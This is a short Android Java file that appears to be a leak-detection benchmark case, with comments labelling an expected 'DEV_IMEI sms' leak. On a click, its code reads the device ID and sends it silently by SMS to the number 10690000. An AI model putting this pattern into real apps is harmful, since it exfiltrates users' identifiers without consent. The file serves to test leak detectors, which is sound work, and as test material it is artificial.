// about       The object is no longer told of the text, but still of clicks, and sends the value.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.text.Editable;
import android.text.TextWatcher;
import android.view.View;
import android.widget.EditText;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    EditText field = new EditText(this);
    Both both = new Both(phone.getDeviceId());
    field.addTextChangedListener(both);
    field.setOnClickListener(both);
    field.removeTextChangedListener(both);
    setContentView(field);
  }
}

class Both implements TextWatcher, View.OnClickListener {
  private final String id;
  private String last;

  Both(String id) {
    this.id = id;
  }

  @Override
  public void onClick(View view) {
    SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
  }

  @Override
  public void beforeTextChanged(CharSequence text, int start, int count, int after) {}

  @Override
  public void onTextChanged(CharSequence text, int start, int before, int count) {}

  @Override
  public void afterTextChanged(Editable text) {
    last = id;
  }
}
